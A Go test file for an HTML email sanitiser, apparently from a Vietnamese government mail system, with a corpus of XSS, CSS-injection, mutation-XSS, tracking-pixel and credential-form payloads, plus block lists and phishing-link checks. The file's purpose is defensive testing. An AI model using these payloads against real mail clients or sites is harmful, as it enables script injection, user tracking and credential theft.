package mailhtml

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile is a corpus of HTML mail bodies built to run script, load remote content,
// submit data or escape the message box. Each must come out with nothing dangerous
// (checked by assertSafe on the parsed output), and where the case says so, the
// harmless text around it must survive.
var hostile = []struct {
	name string
	in   string
	keep string // text that must remain, "" for none
}{
	{"script element", `<p>Xin chào</p><script>alert(1)</script>`, "Xin chào"},
	{"script uppercase", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok`, "ok"},
	{"script split", `<scr<script>ipt>alert(1)</scr</script>ipt>`, ""},
	{"onerror image", `<img src=x onerror="alert(1)">`, ""},
	{"onload body", `<body onload="alert(1)"><p>Thân thư</p></body>`, "Thân thư"},
	{"onclick div", `<div onclick="alert(1)" onmouseover=alert(2)>Nhấn</div>`, "Nhấn"},
	{"javascript href", `<a href="javascript:alert(1)">link</a>`, "link"},
	{"javascript href entity", `<a href="jav&#x09;ascript:alert(1)">x</a>`, ""},
	{"javascript href mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`, ""},
	{"javascript href leading space", `<a href="  javascript:alert(1)">x</a>`, ""},
	{"vbscript href", `<a href="vbscript:msgbox(1)">x</a>`, ""},
	{"data html href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, ""},
	{"javascript img src", `<img src="javascript:alert(1)">`, ""},
	{"svg script", `<svg><script>alert(1)</script><circle r=5 /></svg>text`, "text"},
	{"svg onload", `<svg onload=alert(1)>`, ""},
	{"svg use xlink", `<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>`, ""},
	{"math", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, ""},
	{"style element", `<style>body{background:url(https://track.example/p.gif)}</style><p>nội dung</p>`, "nội dung"},
	{"style import", `<style>@import url(https://evil.example/x.css);</style>`, ""},
	{"style attr url", `<div style="background-image:url(https://track.example/p.gif)">a</div>`, "a"},
	{"style attr background url", `<div style="background:#fff url('https://track.example/p.gif')">a</div>`, "a"},
	{"style attr expression", `<div style="width:expression(alert(1))">a</div>`, "a"},
	{"style attr escaped url", `<div style="background:\75\72\6c(https://track.example/p.gif)">a</div>`, "a"},
	{"style attr moz-binding", `<div style="-moz-binding:url(https://evil.example/x.xml#x)">a</div>`, "a"},
	{"style attr behavior", `<div style="behavior:url(x.htc)">a</div>`, "a"},
	{"style attr list image", `<ul style="list-style-image:url(https://track.example/p.gif)"><li>a</li></ul>`, "a"},
	{"style attr position overlay", `<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake login</div>`, "fake login"},
	{"style attr content", `<p style="content:url(https://track.example/p.gif)">a</p>`, "a"},
	{"style attr image-set", `<p style="background-color:image-set('https://t.example/a.png' 1x)">a</p>`, "a"},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">body`, "body"},
	{"base href", `<base href="https://evil.example/"><a href="page">rel</a>`, "rel"},
	{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">x`, "x"},
	{"form", `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Đăng nhập</button></form>`, ""},
	{"form action on button", `<button formaction="javascript:alert(1)">x</button>`, ""},
	{"iframe", `<iframe src="https://evil.example/"></iframe>after`, "after"},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, ""},
	{"frameset", `<frameset><frame src="https://evil.example/"></frameset>`, ""},
	{"object", `<object data="https://evil.example/x.swf"></object>`, ""},
	{"embed", `<embed src="https://evil.example/x.swf">`, ""},
	{"applet", `<applet code="x.class"></applet>`, ""},
	{"video poster", `<video poster="https://track.example/p.gif" src="x.mp4"></video>`, ""},
	{"audio", `<audio src="https://evil.example/a.mp3" autoplay></audio>`, ""},
	{"table background attr", `<table background="https://track.example/p.gif"><tr><td>a</td></tr></table>`, "a"},
	{"td background attr", `<table><tr><td background="javascript:alert(1)">a</td></tr></table>`, "a"},
	{"body background", `<body background="https://track.example/p.gif">a</body>`, "a"},
	{"input image", `<input type="image" src="https://track.example/p.gif">`, ""},
	{"srcset", `<img srcset="https://track.example/p.gif 1x">`, ""},
	{"picture source", `<picture><source srcset="https://track.example/p.gif"><img alt=a></picture>`, ""},
	{"xss comment trick", `<!--<img src="--><img src=x onerror=alert(1)//">`, ""},
	{"cdata", `<![CDATA[<script>alert(1)</script>]]>`, ""},
	{"noscript mxss", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, ""},
	{"textarea mxss", `<textarea><img src=x onerror=alert(1)></textarea>`, ""},
	{"template", `<template><script>alert(1)</script></template>`, ""},
	{"marquee onstart", `<marquee onstart=alert(1)>x</marquee>`, "x"},
	{"details ontoggle", `<details open ontoggle=alert(1)><summary>s</summary></details>`, "s"},
	{"a ping", `<a href="https://example.org/" ping="https://track.example/">x</a>`, "x"},
	{"xml namespace", `<html xmlns:x="urn:x"><x:script>alert(1)</x:script></html>`, ""},
	{"dialog", `<dialog open>hi</dialog>`, "hi"},
	{"portal", `<portal src="https://evil.example/"></portal>`, ""},
	{"formaction image", `<isindex action="javascript:alert(1)" type=image>`, ""},
	{"remote img", `<img src="https://track.example/p.gif?u=123" width=1 height=1>`, ""},
	{"http img", `<img src="http://track.example/p.gif">`, ""},
	{"protocol relative img", `<img src="//track.example/p.gif">`, ""},
	{"null byte", "<scr\x00ipt>alert(1)</scr\x00ipt>", ""},
	{"utf7", `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, ""},
}

// forbiddenElements must never appear in sanitised output.
var forbiddenElements = map[string]bool{
	"script": true, "style": true, "iframe": true, "frame": true, "frameset": true, "object": true,
	"embed": true, "applet": true, "form": true, "input": true, "button": true, "textarea": true,
	"select": true, "meta": true, "base": true, "link": true, "svg": true, "math": true,
	"video": true, "audio": true, "source": true, "picture": true, "template": true, "portal": true,
	"isindex": true, "noscript": true, "dialog": true, "marquee": true, "body": true, "html": true, "head": true,
}

// allowedAttrs lists every attribute that may appear in sanitised output.
var allowedAttrs = map[string]bool{
	"title": true, "dir": true, "lang": true, "align": true, "valign": true, "width": true, "height": true,
	"border": true, "cellpadding": true, "cellspacing": true, "colspan": true, "rowspan": true, "nowrap": true,
	"bgcolor": true, "color": true, "face": true, "size": true, "start": true, "type": true, "cite": true,
	"href": true, "src": true, "alt": true, "hspace": true, "vspace": true, "style": true, "rel": true,
	"target": true, "data-blocked": true, "data-suspicious": true,
}

func assertSafe(t *testing.T, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("output does not parse: %v", err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			// html.Parse adds html, head and body itself; only elements under body count.
			if forbiddenElements[n.Data] && !(n.Data == "html" || n.Data == "head" || n.Data == "body") {
				t.Errorf("element <%s> survived in %q", n.Data, out)
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				val := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				if strings.HasPrefix(key, "on") || !allowedAttrs[key] {
					t.Errorf("attribute %s=%q survived on <%s> in %q", a.Key, a.Val, n.Data, out)
				}
				for _, bad := range []string{"javascript:", "vbscript:", "data:text", "expression(", "url(", "@import", "\\"} {
					if strings.Contains(val, bad) {
						t.Errorf("attribute %s=%q holds %q in %q", a.Key, a.Val, bad, out)
					}
				}
				if key == "src" && (strings.HasPrefix(val, "http:") || strings.HasPrefix(val, "https:") || strings.HasPrefix(val, "//")) {
					t.Errorf("remote image source %q survived with remote images off", a.Val)
				}
				if key == "href" && !(strings.HasPrefix(val, "http:") || strings.HasPrefix(val, "https:") || strings.HasPrefix(val, "mailto:")) {
					t.Errorf("link %q has a scheme outside http, https, mailto", a.Val)
				}
				if key == "style" && strings.Contains(val, "position") {
					t.Errorf("style %q can position over the interface", a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func TestHostileCorpus(t *testing.T) {
	s := New()
	for _, c := range hostile {
		t.Run(c.name, func(t *testing.T) {
			res := s.Sanitize(c.in, Options{})
			assertSafe(t, res.HTML)
			if c.keep != "" && !strings.Contains(res.HTML, c.keep) {
				t.Errorf("text %q lost: %q", c.keep, res.HTML)
			}
			if strings.Contains(strings.ToLower(res.HTML), "alert(") && strings.Contains(res.HTML, "<") {
				// alert( may survive only as text, never inside a tag.
				z := html.NewTokenizer(strings.NewReader(res.HTML))
				for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
					if tt == html.StartTagToken || tt == html.SelfClosingTagToken {
						if strings.Contains(strings.ToLower(string(z.Raw())), "alert(") {
							t.Errorf("alert( inside a tag: %q", z.Raw())
						}
					}
				}
			}
		})
	}
}

func TestRemoteImagesBlockedUntilAllowed(t *testing.T) {
	s := New()
	in := `<p>Báo cáo</p><img src="https://example.org/logo.png" alt="logo"><img src="http://example.org/a.gif">`
	res := s.Sanitize(in, Options{})
	if res.BlockedImages != 2 {
		t.Errorf("blocked %d, want 2", res.BlockedImages)
	}
	if strings.Contains(res.HTML, "example.org") {
		t.Errorf("remote source kept: %s", res.HTML)
	}
	res = s.Sanitize(in, Options{RemoteImages: true})
	if res.BlockedImages != 0 || !strings.Contains(res.HTML, `src="https://example.org/logo.png"`) {
		t.Errorf("remote images not shown when allowed: %s", res.HTML)
	}
}

func TestCIDImagesPointAtOurURL(t *testing.T) {
	s := New()
	in := `<img src="cid:logo@sonla.gov.vn" alt="logo"><img src="cid:unknown@x">`
	res := s.Sanitize(in, Options{CID: func(id string) (string, bool) {
		if id == "logo@sonla.gov.vn" {
			return "/mail/1/2/part/2?inline=1", true
		}
		return "", false
	}})
	if !strings.Contains(res.HTML, `src="/mail/1/2/part/2?inline=1"`) {
		t.Errorf("cid image not rewritten: %s", res.HTML)
	}
	if strings.Contains(res.HTML, "cid:") {
		t.Errorf("unknown cid kept: %s", res.HTML)
	}
}

func TestMailFormattingKept(t *testing.T) {
	s := New()
	in := `<table width="100%" cellpadding="4" bgcolor="#eeeeee"><tr><td align="center" style="color: #c00; font-weight: bold; padding: 4px">Công văn số 12/SKHCN</td></tr></table>` +
		`<p style="font-family: Arial, sans-serif; font-size: 14px">Kính gửi</p><font color="red" size="3">đỏ</font>` +
		`<a href="https://sonla.gov.vn/">Cổng thông tin</a><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==">`
	res := s.Sanitize(in, Options{})
	for _, want := range []string{`bgcolor="#eeeeee"`, `color: #c00`, `font-weight: bold`, `font-family: Arial, sans-serif`,
		`<font color="red" size="3">`, `href="https://sonla.gov.vn/"`, `target="_blank"`, `rel="nofollow noreferrer noopener"`, `src="data:image/png;base64,`} {
		if !strings.Contains(res.HTML, want) {
			t.Errorf("missing %q in %s", want, res.HTML)
		}
	}
	assertSafe(t, res.HTML)
}

func FuzzSanitize(f *testing.F) {
	for _, c := range hostile {
		f.Add(c.in)
	}
	s := New()
	f.Fuzz(func(t *testing.T, in string) {
		assertSafe(t, s.Sanitize(in, Options{}).HTML)
	})
}

// R17.3: a link whose text shows another address than its target is marked.
func TestSuspiciousLinks(t *testing.T) {
	s := New()
	for _, c := range []struct {
		in   string
		want int
	}{
		{`<a href="https://evil.example/login">https://www.vietcombank.com.vn</a>`, 1},
		{`<a href="https://evil.example/login">www.sonla.gov.vn</a>`, 1},
		{`<a href="https://evil.example/login">sonla.gov.vn/dang-nhap</a>`, 1},
		{`<a href="https://sonla.gov.vn/tin-tuc">https://www.sonla.gov.vn</a>`, 0},
		{`<a href="https://sonla.gov.vn/">Cổng thông tin điện tử tỉnh</a>`, 0},
		{`<a href="https://sonla.gov.vn/">bấm vào đây</a>`, 0},
		{`<a href="mailto:a@sonla.gov.vn">a@sonla.gov.vn</a>`, 0},
		{`<a href="https://evil.example/"><b>www.</b><i>bank.vn</i></a>`, 1},
	} {
		res := s.Sanitize(c.in, Options{})
		if res.SuspiciousLinks != c.want {
			t.Errorf("%s: %d suspicious, want %d (%s)", c.in, res.SuspiciousLinks, c.want, res.HTML)
		}
		if c.want > 0 && !strings.Contains(res.HTML, `data-suspicious="1"`) {
			t.Errorf("not marked: %s", res.HTML)
		}
		assertSafe(t, res.HTML)
	}
}
